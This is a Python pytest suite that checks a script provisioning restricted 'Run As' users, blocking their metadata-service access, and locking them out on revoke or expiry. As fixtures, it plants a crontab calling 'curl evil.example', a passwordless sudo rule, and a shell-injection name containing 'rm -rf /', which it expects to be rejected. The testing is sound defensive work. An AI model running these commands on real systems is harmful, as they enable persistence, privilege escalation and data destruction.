"""The Run As script, linted, and run for real against a private copy of /etc and /home.

The script runs inside a new mount namespace where /etc and /home are copies, and a new network
namespace with its own firewall: the users and rules it makes never reach the machine running the tests.
That needs root, unshare and nft (as on CI); elsewhere these tests are skipped and say why.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from components.run_as_user import COMMON_SCRIPT, MACOS_SCRIPT, RUN_AS_GROUP, SCRIPT, run_as_user_script

USER = "third-party-a"

needs_root = pytest.mark.skipif(
    # CI installs what these need (.ci/run): there, a missing tool fails the tests instead of skipping them.
    not os.environ.get("CI") and (os.geteuid() != 0 or not all(map(shutil.which, ("unshare", "nft", "ip")))),
    reason="creates OS users and firewall rules in private namespaces, which needs root, unshare, nft and ip",
)
needs_sudo = pytest.mark.skipif(shutil.which("sudo") is None, reason="the sudo rule check needs sudo installed")


def test_the_script_passes_shellcheck(tmp_path):
    script = tmp_path / "run-as-user.sh"
    script.write_text("#!/bin/bash\n" + run_as_user_script([USER]))
    shellcheck = Path(sys.executable).parent / "shellcheck"
    result = subprocess.run([str(shellcheck), str(script)], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout


NAMESPACES = ["unshare", "--mount", "--net", "--pid", "--fork", "--mount-proc", "--propagation", "private"]
"""A private mount table, network stack and process table for each run."""


class PrivateSystem:
    """A private /etc and /home in which shell commands run as root."""

    def __init__(self, root: Path) -> None:
        self.etc = root / "etc"
        self.home = root / "home"
        self.spool = root / "spool"
        subprocess.run(["cp", "-a", "/etc", str(self.etc)], check=True)
        self.home.mkdir()
        (self.spool / "cron" / "crontabs").mkdir(parents=True)
        self.script = root / "run-as-user.sh"

    def run(self, commands: str) -> subprocess.CompletedProcess[str]:
        # Its own process table too, so the script's pkill sees the namespace's processes only.
        inner = (
            f"mount --bind {self.etc} /etc && mount --bind {self.home} /home && mount --bind {self.spool} /var/spool"
            f" && {commands}"
        )
        return subprocess.run(
            [*NAMESPACES, "bash", "-c", inner],
            capture_output=True,
            text=True,
            check=False,
        )

    def run_script(self, user: str = USER, before: str = "true") -> subprocess.CompletedProcess[str]:
        self.script.write_text(run_as_user_script([user]))
        return self.run(f"{before} && bash {self.script}")

    def shadow_entry(self, user: str = USER) -> list[str]:
        (line,) = [line for line in (self.etc / "shadow").read_text().splitlines() if line.startswith(f"{user}:")]
        return line.split(":")

    def passwd_entry(self, user: str = USER) -> list[str]:
        (line,) = [line for line in (self.etc / "passwd").read_text().splitlines() if line.startswith(f"{user}:")]
        return line.split(":")

    def password_field(self, user: str = USER) -> str:
        (line,) = [line for line in (self.etc / "shadow").read_text().splitlines() if line.startswith(f"{user}:")]
        return line.split(":")[1]

    def group_members(self, group: str) -> list[str]:
        (line,) = [line for line in (self.etc / "group").read_text().splitlines() if line.startswith(f"{group}:")]
        return [member for member in line.split(":")[3].split(",") if member]


@pytest.fixture
def system(tmp_path) -> PrivateSystem:
    return PrivateSystem(tmp_path)


@needs_root
def test_it_creates_a_plain_user_with_a_home_and_no_password(system):
    result = system.run_script()
    assert result.returncode == 0, result.stderr
    _, _, uid, _, _, home, shell = system.passwd_entry()
    assert int(uid) >= 1000
    assert (home, shell) == (f"/home/{USER}", "/bin/bash")
    assert (system.home / USER).is_dir()
    assert (system.home / USER).stat().st_uid == int(uid)
    assert system.password_field().startswith("!")  # locked: sessions are the only way in


@needs_root
def test_running_it_again_converges(system):
    first = system.run_script()
    second = system.run_script()
    assert (first.returncode, second.returncode) == (0, 0), second.stderr
    assert sum(line.startswith(f"{USER}:") for line in (system.etc / "passwd").read_text().splitlines()) == 1


@needs_root
def test_it_takes_away_administrator_groups_and_sudo_rules(system):
    result = system.run_script(
        before=(
            "(getent group wheel >/dev/null || groupadd wheel)"
            f" && useradd --create-home --groups wheel,adm --password x {USER}"
            f" && mkdir -p /etc/sudoers.d && echo '{USER} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{USER}"
        )
    )
    assert result.returncode == 0, result.stderr
    assert USER not in system.group_members("wheel")
    assert USER not in system.group_members("adm")
    assert not (system.etc / "sudoers.d" / USER).exists()
    assert system.password_field().startswith("!")


@needs_root
def test_it_refuses_to_manage_a_system_account(system):
    result = system.run_script(user="svc-daemon", before="useradd --system svc-daemon")
    assert result.returncode != 0
    assert "system account" in result.stderr


@needs_root
@needs_sudo
def test_it_fails_when_another_sudo_rule_still_grants_the_user(system):
    result = system.run_script(before=f"echo '{USER} ALL=(ALL) ALL' >> /etc/sudoers")
    assert result.returncode != 0
    assert "can still use sudo" in result.stderr


# -- the instance metadata service, refused to Run As users ----------------------------------------

IMDS_V4, IMDS_V6 = "169.254.169.254", "fd00:ec2::254"
STAND_IN_IMDS = """
import http.server, socketserver, sys
class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"role-credentials")
    def log_message(self, *args): pass
class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    address_family = __import__("socket").AF_INET6 if ":" in sys.argv[1] else __import__("socket").AF_INET
Server((sys.argv[1], 80), Answer).serve_forever()
"""


FETCH = """
# Prints the last line IMDS answers at $1, or REFUSED; as root, or as the user $2.
request="exec 3<>/dev/tcp/$1/80 && printf 'GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3"
runner=()
[ -z "${2:-}" ] || runner=(setpriv --reuid="$2" --regid="$2" --init-groups)
if answer=$("${runner[@]}" timeout 5 bash -c "$request" 2>/dev/null); then
  echo "${answer##*$'\\n'}"
else
  echo REFUSED
fi
"""


class InstanceWithImds(PrivateSystem):
    """The private system, with a stand-in IMDS on its own loopback at both of IMDS's addresses."""

    def fetch(self, address: str, as_user: str = "") -> str:
        """A shell command printing what IMDS answers at ``address`` (or REFUSED), as root or as ``as_user``."""
        return f"bash {self.script.with_name('fetch.sh')} {address} {as_user}"

    def run_with_imds(self, commands: str) -> subprocess.CompletedProcess[str]:
        server = self.script.with_name("imds.py")
        server.write_text(STAND_IN_IMDS)
        fetcher = self.script.with_name("fetch.sh")
        fetcher.write_text(FETCH)
        setup = (
            f"ip link set lo up && ip addr add {IMDS_V4}/32 dev lo && ip -6 addr add {IMDS_V6}/128 dev lo nodad"
            # The stand-ins end with the namespace's shell; they must not hold the test's pipes open.
            f" && {{ {sys.executable} {server} {IMDS_V4} >/dev/null 2>&1 & v4=$!; }}"
            f" && {{ {sys.executable} {server} {IMDS_V6} >/dev/null 2>&1 & v6=$!; }}"
            ' && trap "kill $v4 $v6" EXIT'
            f" && for i in $(seq 50); do {self.fetch(IMDS_V4)} | grep -q role-credentials && break; sleep 0.1; done"
        )
        return self.run(f"{setup} && {commands}")


@pytest.fixture
def instance(tmp_path) -> InstanceWithImds:
    return InstanceWithImds(tmp_path)


def answers(result: subprocess.CompletedProcess[str]) -> list[str]:
    assert result.returncode == 0, result.stderr
    return [line for line in result.stdout.splitlines() if line in ("role-credentials", "REFUSED")]


@needs_root
def test_a_run_as_user_is_refused_imds_while_root_and_ssm_user_are_answered(instance):
    instance.script.write_text(run_as_user_script([USER]))
    result = instance.run_with_imds(
        f"useradd --create-home ssm-user && {instance.fetch(IMDS_V4, USER)} ; bash {instance.script} >/dev/null"
        f" && {instance.fetch(IMDS_V4, USER)} && {instance.fetch(IMDS_V6, USER)}"
        f" && {instance.fetch(IMDS_V4)} && {instance.fetch(IMDS_V6)} && {instance.fetch(IMDS_V4, 'ssm-user')}"
    )
    # Before the script the user does not exist; after it, the user is refused on IPv4 and IPv6, while the
    # agent (root) and ssm-user are still answered.
    assert answers(result) == [
        "REFUSED",
        "REFUSED",
        "REFUSED",
        "role-credentials",
        "role-credentials",
        "role-credentials",
    ]


@needs_root
def test_the_rule_covers_every_run_as_user_and_is_loaded_again_at_boot(instance):
    instance.script.write_text(run_as_user_script([USER]))
    other = instance.script.with_name("other.sh")
    other.write_text(run_as_user_script(["third-party-b"]))
    result = instance.run_with_imds(
        f"bash {instance.script} >/dev/null && bash {other} >/dev/null && bash {instance.script} >/dev/null"
        # A reboot: the running rules are gone, then the nftables service loads its configuration.
        " && nft flush ruleset && conf=/etc/sysconfig/nftables.conf && { [ -e $conf ] || conf=/etc/nftables.conf; }"
        f" && nft -f $conf && {instance.fetch(IMDS_V4, USER)} && {instance.fetch(IMDS_V4, 'third-party-b')}"
        f" && {instance.fetch(IMDS_V4)}"
    )
    assert answers(result) == ["REFUSED", "REFUSED", "role-credentials"]
    assert sorted(instance.group_members(RUN_AS_GROUP)) == [USER, "third-party-b"]


@needs_root
def test_without_nft_the_user_is_never_made(instance):
    instance.script.write_text(run_as_user_script([USER]))
    result = instance.run(f"PATH=/nonexistent /bin/bash {instance.script}")
    assert result.returncode != 0
    assert "nft is missing" in result.stderr
    assert f"{USER}:" not in (instance.etc / "passwd").read_text()


def test_the_association_runs_each_platforms_script_whole():
    script = run_as_user_script([USER])
    assert COMMON_SCRIPT.read_text() + 'case "$(uname -s)" in' in script
    assert f"\n*)\n{SCRIPT.read_text()};;\nesac\n" in script
    assert f"\nDarwin)\n{MACOS_SCRIPT.read_text()};;\n" in script


# -- access ends on the instance: grant, revoke, move, expire ------------------------------------------

PAST, FUTURE = datetime(2020, 1, 1, tzinfo=UTC), datetime(2099, 1, 1, tzinfo=UTC)
LEFT_BEHIND = (
    f"{{ (setpriv --reuid={USER} --regid={USER} --init-groups nohup sleep 600 >/dev/null 2>&1 &);"
    f" echo '* * * * * curl evil.example' > /var/spool/cron/crontabs/{USER}; sleep 0.3; }}"
)
"""What a party leaves on the instance: a process that outlives its session, and a crontab."""
COUNT_LEFT = f"echo processes=$(pgrep -c -u {USER} || true)"


def scripts(system: PrivateSystem, **grants: datetime | None) -> dict[str, Path]:
    """One converge script a grant (user -> expiry), as each party's association runs it."""
    paths = {}
    for user, expires in grants.items():
        paths[user] = system.script.with_name(f"{user}.sh")
        paths[user].write_text(run_as_user_script([user], expires))
    return paths


def locked_out(system: PrivateSystem, user: str = USER) -> bool:
    _, password, *_, account_expiry, _ = system.shadow_entry(user)
    return password.startswith("!") and account_expiry == "1" and system.passwd_entry(user)[6] == "/sbin/nologin"


@needs_root
def test_granted_user_is_usable_and_left_running(system):
    script = scripts(system, **{USER: FUTURE})[USER]
    result = system.run(f"bash {script} >/dev/null && {LEFT_BEHIND} && bash {script} >/dev/null && {COUNT_LEFT}")
    assert result.returncode == 0, result.stderr
    assert "processes=1" in result.stdout  # a granted user's own work is not touched
    assert not locked_out(system)
    assert system.passwd_entry()[6] == "/bin/bash"
    assert (system.spool / "cron" / "crontabs" / USER).exists()


@needs_root
def test_moving_the_grant_to_another_party_locks_the_old_user_out_and_ends_what_it_left(system):
    paths = scripts(system, **{USER: None, "third-party-b": None})
    result = system.run(
        f"bash {paths[USER]} >/dev/null && {LEFT_BEHIND} && bash {paths['third-party-b']} && {COUNT_LEFT}"
    )
    assert result.returncode == 0, result.stderr
    assert f"{USER} is locked out" in result.stdout
    assert "processes=0" in result.stdout
    assert locked_out(system)
    assert not (system.spool / "cron" / "crontabs" / USER).exists()
    assert (system.home / USER).is_dir()  # kept, for your records
    assert not locked_out(system, "third-party-b")


@needs_root
def test_revoking_a_party_locks_its_user_out_on_the_next_run_of_any_grant(system):
    # The revoked party's association is gone; the instance's next grant (here, re-tagged to B) converges it.
    paths = scripts(system, **{USER: FUTURE, "third-party-b": FUTURE})
    result = system.run(
        f"bash {paths[USER]} >/dev/null && {LEFT_BEHIND} && bash {paths['third-party-b']} >/dev/null && {COUNT_LEFT}"
    )
    assert result.returncode == 0, result.stderr
    assert "processes=0" in result.stdout
    assert locked_out(system)


@needs_root
def test_after_its_expiry_the_partys_own_run_locks_its_user_out(system):
    before, after = system.script.with_name("before.sh"), system.script.with_name("after.sh")
    before.write_text(run_as_user_script([USER], FUTURE))
    after.write_text(run_as_user_script([USER], PAST))
    result = system.run(f"bash {before} >/dev/null && {LEFT_BEHIND} && bash {after} && {COUNT_LEFT}")
    assert result.returncode == 0, result.stderr
    assert "access expired" in result.stdout
    assert "processes=0" in result.stdout
    assert locked_out(system)


@needs_root
def test_an_extended_grant_lets_the_user_in_again(system):
    expired, extended = system.script.with_name("expired.sh"), system.script.with_name("extended.sh")
    expired.write_text(run_as_user_script([USER], PAST))
    extended.write_text(run_as_user_script([USER], FUTURE))
    result = system.run(f"bash {expired} >/dev/null && bash {extended} >/dev/null")
    assert result.returncode == 0, result.stderr
    assert not locked_out(system)
    assert system.passwd_entry()[6] == "/bin/bash"


@needs_root
def test_users_the_stack_did_not_make_are_never_touched(system):
    result = system.run(
        "useradd --create-home ops && (setpriv --reuid=ops --regid=ops --init-groups nohup sleep 600 >/dev/null 2>&1 &)"
        f" && sleep 0.3 && bash {scripts(system, **{USER: PAST})[USER]} >/dev/null"
        " && echo ops=$(pgrep -c -u ops || true)"
    )
    assert result.returncode == 0, result.stderr
    assert "ops=1" in result.stdout
    assert system.shadow_entry("ops")[7] == ""


# -- one OS user per person: each of a party's people, and only those still listed ----------------------

ALICE, BOB = "tpb-alice", "tpb-bob"


def bobs_leftovers() -> str:
    return LEFT_BEHIND.replace(USER, BOB)


@needs_root
def test_each_person_gets_a_plain_user_of_their_own_refused_imds(instance):
    instance.script.write_text(run_as_user_script([ALICE, BOB], FUTURE))
    result = instance.run_with_imds(
        f"bash {instance.script} >/dev/null && {instance.fetch(IMDS_V4, ALICE)} && {instance.fetch(IMDS_V4, BOB)}"
        f" && {instance.fetch(IMDS_V4)}"
    )
    assert answers(result) == ["REFUSED", "REFUSED", "role-credentials"]
    uids = {instance.passwd_entry(user)[2] for user in (ALICE, BOB)}
    assert len(uids) == 2  # their files and processes tell them apart
    for user in (ALICE, BOB):
        assert not locked_out(instance, user)
        assert (instance.home / user).is_dir()
    assert sorted(instance.group_members(RUN_AS_GROUP)) == [ALICE, BOB]


@needs_root
def test_a_person_no_longer_listed_is_locked_out_and_the_others_keep_working(system):
    both, alice_only = system.script.with_name("both.sh"), system.script.with_name("alice.sh")
    both.write_text(run_as_user_script([ALICE, BOB], FUTURE))
    alice_only.write_text(run_as_user_script([ALICE], FUTURE))
    alices_work = LEFT_BEHIND.replace(USER, ALICE)
    result = system.run(
        f"bash {both} >/dev/null && {alices_work} && {bobs_leftovers()} && bash {alice_only}"
        f" && echo alice=$(pgrep -c -u {ALICE} || true) bob=$(pgrep -c -u {BOB} || true)"
    )
    assert result.returncode == 0, result.stderr
    assert f"{BOB} is locked out" in result.stdout
    assert "alice=1 bob=0" in result.stdout
    assert locked_out(system, BOB)
    assert not locked_out(system, ALICE)
    assert (system.home / BOB).is_dir()  # kept: his files still name him


@needs_root
def test_a_people_list_cannot_smuggle_a_system_account(system):
    script = system.script.with_name("people.sh")
    script.write_text(run_as_user_script([ALICE, "svc-daemon"], FUTURE))
    result = system.run(f"useradd --system svc-daemon && bash {script}")
    assert result.returncode != 0
    assert "refusing to manage svc-daemon: it is a system account" in result.stderr
    assert f"{ALICE}:" not in (system.etc / "passwd").read_text()  # checked before anyone is made


def test_names_that_are_not_linux_users_never_reach_the_script():
    with pytest.raises(ValueError, match="not Linux user names"):
        run_as_user_script([ALICE, "x'; rm -rf / #"])
    with pytest.raises(ValueError, match="at least one"):
        run_as_user_script([])
